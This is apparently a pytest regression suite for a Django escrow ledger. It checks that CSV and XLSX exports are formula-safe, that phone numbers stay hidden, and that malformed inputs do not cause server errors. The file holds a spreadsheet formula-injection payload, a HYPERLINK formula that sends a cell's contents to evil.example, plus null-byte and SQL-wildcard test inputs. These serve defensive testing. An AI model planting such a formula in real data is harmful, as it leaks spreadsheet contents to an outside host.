"""Found in review: spreadsheet-safe exports, no phone numbers on the trail, bad input never a 500,
one line per account and entry (the totals count entries from the cached line counts)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.db import transaction
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from escrow.errors import LedgerError
from escrow.ledger.services import credit, debit, ledger_post
from escrow.models import Category, EntryKind
from tests.escrow.ledger.helpers import open_escrow, pay_in
from tests.escrow.payouts.helpers import file_payout, prepare, walk


def client_for(user):
    c = Client()
    if user is not None:
        c.force_login(user)
    return c


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# 1. ledger_totals: category-only filter counts lines (account.version), not entries
PAYEE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture
def evil_paid(world, settings, tmp_path):
    prepare(world, settings, tmp_path)
    payout = walk(world, file_payout(world, payee_name=PAYEE, purpose="防水"), to="paid")
    return world, payout


def test_csv_counterparty_is_formula_safe(evil_paid):
    world, _payout = evil_paid
    r = client_for(world.resident).get(reverse("escrow:ledger-export-csv", args=[world.a.slug]))
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(body(r).decode("utf-8")[1:])))
    cells = [c for row in rows for c in row]
    assert not any(
        c.startswith(("=", "+", "-", "@")) for c in cells if not c.lstrip("-").replace(".", "").isdigit()
    ), [c for c in cells if c.startswith("=")]
    assert "'" + PAYEE in cells  # the payee is there, as text


def test_xlsx_counterparty_is_not_a_formula(evil_paid):
    world, _payout = evil_paid
    r = client_for(world.resident).get(reverse("escrow:ledger-export-xlsx", args=[world.a.slug]))
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(body(r)))
    sheet = wb.active
    formulas = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    assert "'" + PAYEE in [c.value for row in sheet.iter_rows() for c in row]


# 3. XLSX: a control character in a payee name breaks the export (500)
def test_xlsx_survives_control_characters(world, settings, tmp_path):
    prepare(world, settings, tmp_path)
    walk(world, file_payout(world, payee_name="利民\x07维修部", purpose="防水2"), to="paid")
    r = client_for(world.resident).get(reverse("escrow:ledger-export-xlsx", args=[world.a.slug]))
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(body(r))).active
    assert "利民维修部" in [c.value for row in sheet.iter_rows() for c in row]


# 4. The trail shows a signer's phone number when they have no display name
def test_trail_never_shows_a_signers_phone(world, settings, tmp_path):
    prepare(world, settings, tmp_path)
    world.committee.display_name = ""
    world.committee.save(update_fields=["display_name"])
    payout = walk(world, file_payout(world, purpose="防水3"), to="paid")
    html = (
        client_for(world.resident)
        .get(reverse("escrow:ledger-payout-trail", args=[world.a.slug, payout.pk]))
        .content.decode()
    )
    assert world.committee.phone not in html
    assert world.committee.phone.removeprefix("+86") not in html
    assert "(name not given)" in html


# 5. Trail of compound B's payout under compound A's slug: 404
def test_trail_cross_compound_404(world, settings, tmp_path):
    prepare(world, settings, tmp_path)
    payout = walk(world, file_payout(world, purpose="防水4"), to="paid")
    open_escrow(world.b, opening_fen=1000)
    r = client_for(None).get(reverse("escrow:ledger-payout-trail", args=[world.b.slug, payout.pk]))
    assert r.status_code == 404


# 6. Bad inputs must not 500
@pytest.mark.parametrize(
    "params",
    [
        {"q": "a\x00b"},
        {"account": "10\x00"},
        {"q": "%_'\\"},
        {"date_from": "0001-01-01"},
        {"date_to": "9999-12-31"},
        {"before": str(2**70)},
        {"after": str(2**63 - 1)},
        {"before": "1"},
        {"category": "repairs", "date_from": "2025-01-01"},
        {"direction": "income", "date_from": "2025-01-01", "q": "物业"},
        {"category": "fee_income", "direction": "expense", "date_from": "2025-01-01"},
    ],
)
def test_bad_inputs_never_500(world, params):
    open_escrow(world.a, opening_fen=100_000)
    pay_in(world.a, 1000, on=dt.date(2025, 3, 1))
    c = client_for(world.resident)
    for name in ("escrow:ledger", "escrow:ledger-export-csv", "escrow:ledger-export-xlsx"):
        r = c.get(reverse(name, args=[world.a.slug]), params)
        body(r)
        assert r.status_code in (200, 400), (name, r.status_code)


@pytest.mark.parametrize("through", ["-1", "\x00", "1" * 30, "１", "0", "+1", " 2 "])
def test_jsonl_through_edges(world, through):
    open_escrow(world.a, opening_fen=100_000)
    r = client_for(None).get(reverse("escrow:ledger-export-jsonl", args=[world.a.slug]), {"through": through})
    body(r)
    assert r.status_code in (200, 400)


def test_an_entry_with_two_lines_on_one_account_is_refused(world):
    open_escrow(world.a, opening_fen=1_000_00)
    with pytest.raises(LedgerError, match="one line per account"), transaction.atomic():
        ledger_post(
            compound=world.a,
            kind=EntryKind.PAYOUT,
            legs=[
                debit(Category.REPAIRS, 300),
                debit(Category.REPAIRS, 200),
                credit(Category.ESCROW_CASH, 500),
            ],
            memo="两行同科目",
            effective_date=dt.date(2025, 6, 1),
            actor=None,
        )
